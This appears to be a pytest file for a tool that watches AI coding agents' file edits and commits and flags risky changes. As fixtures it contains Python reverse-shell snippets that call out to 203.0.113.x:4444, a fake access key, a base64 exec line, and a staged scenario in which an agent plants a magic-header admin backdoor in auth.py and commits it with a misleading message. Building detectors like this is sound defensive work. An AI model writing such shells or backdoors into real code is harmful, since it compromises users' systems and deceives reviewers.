"""Code an agent wrote: changes from each tool-call shape, commits and pushes, and the review's edge behaviour.

Detection quality is measured on the labelled corpus (tests/test_code_corpus.py); these tests pin the
mechanics: which tool arguments become which change, and the cases where context decides the verdict.
"""

from __future__ import annotations

from foothold.detections.code_changes import changes_from_tool_call, git_events, parse_patch
from foothold.detections.code_review import ToolCallRecord, build_change_set
from foothold.detections.code_signals import review_changes
from tests.test_instrumentation import home  # noqa: F401 (fixture)


def signals(changes) -> set[tuple[str, str]]:
    return {(f.signal, f.severity) for f in review_changes(changes)}


def test_write_edit_multiedit_and_str_replace_become_changes() -> None:
    (write,) = changes_from_tool_call("Write", {"file_path": "/r/a.py", "content": "x = 1\ny = 2\n"}, call_id="c1")
    assert write.added == ("x = 1", "y = 2") and write.removed == () and write.call_id == "c1"
    (edit,) = changes_from_tool_call("Edit", '{"file_path": "/r/a.py", "old_string": "x = 1", "new_string": "x = 3"}')
    assert edit.added == ("x = 3",) and edit.removed == ("x = 1",)
    edits = [{"old_string": "a", "new_string": "b"}, {"old_string": "c\nd", "new_string": "c\ne"}]
    (multi,) = changes_from_tool_call("MultiEdit", {"file_path": "/r/a.py", "edits": edits})
    assert multi.added == ("b", "e") and multi.removed == ("a", "d")
    args = {"command": "str_replace", "path": "/r/a.py", "old_str": "k = 0", "new_str": "k = 1"}
    (editor,) = changes_from_tool_call("mcp__editor__str_replace_based_edit_tool", args)
    assert editor.added == ("k = 1",) and editor.path == "/r/a.py"


def test_a_second_whole_file_write_is_a_diff_against_the_first() -> None:
    known: dict[str, str] = {}
    changes_from_tool_call("Write", {"file_path": "m.py", "content": "a\nb\nc\n"}, known=known)
    (second,) = changes_from_tool_call("Write", {"file_path": "m.py", "content": "a\nB\nc\n"}, known=known)
    assert second.action == "modify" and second.added == ("B",) and second.removed == ("b",)


def test_codex_patch_envelope_and_unified_diff() -> None:
    codex = (
        "*** Begin Patch\n*** Add File: src/new.py\n+print('hi')\n*** Update File: src/old.py\n@@\n-a = 1\n+a = 2\n"
        "*** Delete File: src/gone.py\n*** End Patch\n"
    )
    assert [(c.path, c.action, c.added, c.removed) for c in parse_patch(codex)] == [
        ("src/new.py", "create", ("print('hi')",), ()),
        ("src/old.py", "modify", ("a = 2",), ("a = 1",)),
        ("src/gone.py", "delete", (), ()),
    ]
    unified = "--- a/x.js\n+++ b/x.js\n@@ -1,2 +1,2 @@\n const a = 1;\n-run();\n+run(2);\n"
    (change,) = changes_from_tool_call("apply_patch", {"input": unified})
    assert (change.path, change.added, change.removed) == ("x.js", ("run(2);",), ("run();",))


def test_commits_and_pushes_with_ids_from_the_output() -> None:
    output = (
        "[feat/x 9f8e7d6] add retry\n 1 file changed\nTo github.com:o/r.git\n   1111111..2222222  feat/x -> feat/x\n"
    )
    events = git_events("git add -A && git commit -m 'add retry' && git push origin feat/x", output, "c9")
    assert [(e.kind, e.ref, e.detail, e.call_id) for e in events] == [
        ("commit", "9f8e7d6", "add retry", "c9"),
        ("push", "1111111..2222222", "feat/x -> feat/x", "c9"),
    ]
    assert [(e.kind, e.ref, e.detail) for e in git_events('git commit -am "wip"', None)] == [("commit", "", "wip")]
    assert git_events("git status && git log", "") == []


def test_an_auth_check_moved_to_another_file_is_not_removed() -> None:
    removed = changes_from_tool_call(
        "Edit",
        {"file_path": "app/views.py", "old_string": "@login_required\ndef page(r):", "new_string": "def page(r):"},
    )
    moved = changes_from_tool_call(
        "Edit",
        {"file_path": "app/urls.py", "old_string": "path('p', page)", "new_string": "path('p', login_required(page))"},
    )
    assert ("auth_check_removed", "high") in signals(removed)
    assert "auth_check_removed" not in {s for s, _ in signals(removed + moved)}


def test_an_auth_function_that_now_returns_true_first() -> None:
    old = "def verify_token(token):\n    return jwt.decode(token, KEY, algorithms=['HS256'])"
    new = "def verify_token(token):\n    return True"
    edit = changes_from_tool_call("Edit", {"file_path": "api/auth.py", "old_string": old, "new_string": new})
    assert ("auth_short_circuit", "high") in signals(edit)


def test_severity_drops_in_tests_except_for_code_that_runs_anyway() -> None:
    key = "AKIA" + "Q3EGRIUTKZ7XLMNB"  # an access key id shape, split so no scanner takes this file for a leak
    in_test = changes_from_tool_call("Write", {"file_path": "tests/test_s3.py", "content": f"KEY = '{key}'\n"})
    in_src = changes_from_tool_call("Write", {"file_path": "src/s3.py", "content": f"KEY = '{key}'\n"})
    assert ("hardcoded_credential", "low") in signals(in_test)
    assert ("hardcoded_credential", "high") in signals(in_src)
    shell = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\npty.spawn('/bin/sh')\n"
    in_test_shell = changes_from_tool_call("Write", {"file_path": "tests/test_net.py", "content": shell})
    assert ("reverse_shell", "critical") in signals(in_test_shell)


def test_a_redaction_marker_in_written_code_is_a_hardcoded_credential() -> None:
    content = 'TOKEN = "[REDACTED:github_pat:fp=0123456789abcdef]"\n'
    assert ("hardcoded_credential", "high") in signals(
        changes_from_tool_call("Write", {"file_path": "deploy/ci.py", "content": content})
    )


def test_change_set_orders_the_riskiest_file_first_and_serialises() -> None:
    calls = [
        ToolCallRecord("Write", {"file_path": "README.md", "content": "# docs\n"}, call_id="a"),
        ToolCallRecord(
            "Write", {"file_path": "src/x.py", "content": "exec(__import__('base64').b64decode(P))\n"}, call_id="b"
        ),
        ToolCallRecord("Bash", {"command": "git commit -m 'x'"}, "[main abc1234] x", call_id="c"),
    ]
    change_set = build_change_set(calls)
    assert [c.path for c in change_set.by_risk()] == ["src/x.py", "README.md"]
    document = change_set.to_json()
    assert document["findings"][0]["signal"] == "decode_exec" and document["findings"][0]["call_id"] == "b"
    assert document["git"] == [{"kind": "commit", "ref": "abc1234", "detail": "x", "call_id": "c"}]


def test_hostile_input_is_bounded_and_total() -> None:
    lines = "a" * 1_000_000 + "\n" + "(" * 100_000 + "\n" + "\x00\x1b[2J" * 1000
    changes = changes_from_tool_call("Write", {"file_path": "src/big.py", "content": lines})
    assert isinstance(review_changes(changes), list)
    # None arguments on purpose (hence the type: ignore): callers pass whatever an agent sent.
    assert changes_from_tool_call("Write", "{not json") == [] and changes_from_tool_call(None, None) == []  # type: ignore[arg-type]


def test_the_collector_labels_a_backdoor_written_by_a_tool_call(collector) -> None:
    """Through the real pipeline: an OTel SDK tool span whose Write arguments add a reverse shell is labelled by
    the collector; a sender's own verdict on an ordinary edit is dropped, not stored."""
    import orjson

    from foothold import semconv
    from tests.conftest import rows, sdk_agent

    shell = "import socket,pty,os\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\n"
    agent = sdk_agent(collector)
    for call_id, path, content, forged in (
        ("c-1", "src/health.py", shell, None),
        ("c-2", "src/util.py", "def add(a, b):\n    return a + b\n", "critical"),
    ):
        with agent.tracer.start_as_current_span(semconv.tool_span_name("Write")) as span:
            span.set_attribute(semconv.GEN_AI_OPERATION_NAME, semconv.OPERATION_EXECUTE_TOOL)
            span.set_attribute(semconv.GEN_AI_TOOL_NAME, "Write")
            span.set_attribute(semconv.GEN_AI_TOOL_CALL_ID, call_id)
            span.set_attribute(
                semconv.GEN_AI_TOOL_CALL_ARGUMENTS, orjson.dumps({"file_path": path, "content": content}).decode()
            )
            if forged:
                span.set_attribute(semconv.CODE_SEVERITY, forged)
    agent.close()
    stored = dict(
        rows(
            collector,
            f"SELECT SpanAttributes['{semconv.GEN_AI_TOOL_CALL_ID}'], SpanAttributes['{semconv.CODE_SEVERITY}'] "
            "FROM {db}.otel_traces",
        )
    )
    assert stored == {"c-1": "critical", "c-2": ""}


def test_an_agent_backdoors_a_file_and_commits_it_and_the_report_shows_it(collector, settings, home, tmp_path):
    """Issue 20's proof, with the real instrumentation, a real git repository and the real report: an agent edits
    src/auth.py to accept a magic header, commits it with git, and the report and the HTML page show the diff,
    the commit id git printed, and the finding with its evidence."""
    import subprocess

    from foothold import instrumentation as fh
    from foothold.investigation.access import open_reader
    from foothold.investigation.inventory import remediation_report
    from foothold.investigation.report import report_markdown, timeline_html
    from foothold.investigation.timeline import session_timeline
    from tests.conftest import sdk_agent
    from tests.test_instrumentation import _reset, instrument

    repo = tmp_path / "repo"
    (repo / "src").mkdir(parents=True)
    auth = repo / "src" / "auth.py"
    old = "def authenticate(request):\n    return verify_jwt(request.headers.get('Authorization'))\n"
    auth.write_text(old)
    git = ["git", "-C", str(repo), "-c", "user.name=agent", "-c", "user.email=agent@example.com"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "initial"], check=True)

    new = (
        "def authenticate(request):\n"
        "    if request.headers.get('X-Support-Override') == 'let-me-in-2024':\n"
        "        return User(id=0, role='admin')\n"
        "    return verify_jwt(request.headers.get('Authorization'))\n"
    )
    harness = instrument(home, provider=sdk_agent(collector).provider, capture_content=True)
    try:
        with fh.session(conversation_id="backdoored", agent_id="coder", agent_name="coder"):
            with fh.tool_call("Edit", arguments={"file_path": str(auth), "old_string": old, "new_string": new}):
                auth.write_text(new)
            command = "git commit -am 'Fix auth for support tooling'"
            with fh.tool_call("Bash", arguments={"command": command}, cwd=str(repo)) as call:
                done = subprocess.run(
                    [*git, "commit", "-am", "Fix auth for support tooling"], capture_output=True, text=True
                )
                call.set_result(done.stdout)
        harness.instrumentation.force_flush()
    finally:
        harness.close()
        _reset()
    commit = subprocess.run([*git, "rev-parse", "--short", "HEAD"], capture_output=True, text=True).stdout.strip()

    assert collector.pipeline.flush(30)
    with open_reader(settings) as reader:
        report = remediation_report(reader, session="backdoored")
        html = timeline_html(session_timeline(reader, "backdoored"), report)
    markdown = report_markdown(report)
    (finding,) = [f for f in report.code["findings"] if f["signal"] == "auth_short_circuit"]
    assert finding["severity"] == "high" and "X-Support-Override" in finding["evidence"]
    assert report.code["git"][0]["kind"] == "commit" and commit.startswith(report.code["git"][0]["ref"][:7])
    for document in (markdown, html):
        assert "Code changes to review" in document and "let-me-in-2024" in document and commit[:7] in document
